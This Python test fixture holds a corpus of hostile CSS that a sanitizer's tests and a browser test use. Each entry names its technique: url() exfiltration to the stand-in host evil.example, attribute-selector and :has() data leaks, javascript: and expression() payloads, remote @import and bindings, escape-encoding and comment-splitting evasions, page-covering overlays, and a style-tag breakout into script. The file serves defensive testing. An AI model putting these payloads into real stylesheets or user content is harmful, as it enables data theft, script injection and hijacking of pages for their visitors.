"""A corpus of hostile CSS, each piece with what it tries: used by the sanitizer's tests and by
the browser test, which puts them all on one work and checks the page in Chromium."""

EVIL = "evil.example"

# (what it tries, the CSS). All are dropped by the sanitizer but those in DEFUSED, which are
# kept harmless: a huge absolute box stays inside #workskin, whose box clips it (site.css), and
# a "</style>" in a string is escaped.
HOSTILE = [
    ("escape #workskin by a sibling combinator", "#workskin ~ * , #workskin + * { display: none }"),
    ("escape #workskin by starting with a combinator", "~ footer { display: none }"),
    (
        "escape through :has() reading the page",
        "p:has(~ input[value^=a]) { background: url(https://evil.example/has-a) }",
    ),
    (
        "cover the page with a fixed box",
        ".cover { position: fixed; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: red }",
    ),
    (
        "cover the page with a huge absolute box",
        ".cover2 { position: absolute; top: -5000px; left: -5000px; width: 20000px; height: 20000px; z-index: 2147483647; background: red }",
    ),
    (
        "move the #workskin box itself over the header",
        "#workskin { position: absolute; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; margin: 0; background: red }",
    ),
    (
        "take the #workskin box away so a box inside escapes its clipping",
        "#workskin { display: contents } .cover3 { position: absolute; top: 0; left: 0; width: 100vw; height: 100vh; z-index: 2147483647; background: red }",
    ),
    ("exfiltrate over http", ".leak { background: url(http://evil.example/http) }"),
    (
        "exfiltrate with an attribute selector",
        'a[href^="https://"] { background-image: url(https://evil.example/attr) }',
    ),
    ("exfiltrate with javascript:", ".js { background: url(javascript:alert(1)) }"),
    (
        "url() in a property that is not an image",
        ".c::after { content: url(https://evil.example/content) }",
    ),
    ("escape-encoded url(", ".esc { background: \\75 rl(http://evil.example/escaped) }"),
    (
        "escape-encoded url( in a string form",
        '.esc2 { background: \\75 rl("http://evil.example/escaped2") }',
    ),
    ("a comment splitting url", ".split { background: ur/**/l(http://evil.example/split) }"),
    ("a comment splitting expression", ".split2 { width: expr/**/ession(alert(1)) }"),
    ("expression()", ".ie { width: expression(alert(1)) }"),
    ("escape-encoded expression", ".ie2 { width: \\65 xpression(alert(1)) }"),
    ("behavior", ".htc { behavior: url(https://evil.example/x.htc) }"),
    ("-moz-binding", ".xbl { -moz-binding: url(https://evil.example/x.xml#x) }"),
    ("@import", "@import url(https://evil.example/import.css);"),
    ("@import of a string", '@import "http://evil.example/import2.css";'),
    (
        "@font-face with url",
        "@font-face { font-family: Evil; src: url(https://evil.example/font.woff2) }",
    ),
    (
        "a custom property smuggling a url",
        ".v { --x: url(http://evil.example/var); background: var(--x) }",
    ),
    ("image-set()", ".set { background-image: image-set(url(https://evil.example/set) 1x) }"),
    ("cursor loading a file", ".cur { cursor: url(https://evil.example/cur), auto }"),
    (
        "a string closing the style element",
        '.s::before { content: "</style><script>alert(1)</script>" }',
    ),
]

DEFUSED = {"cover the page with a huge absolute box", "a string closing the style element"}
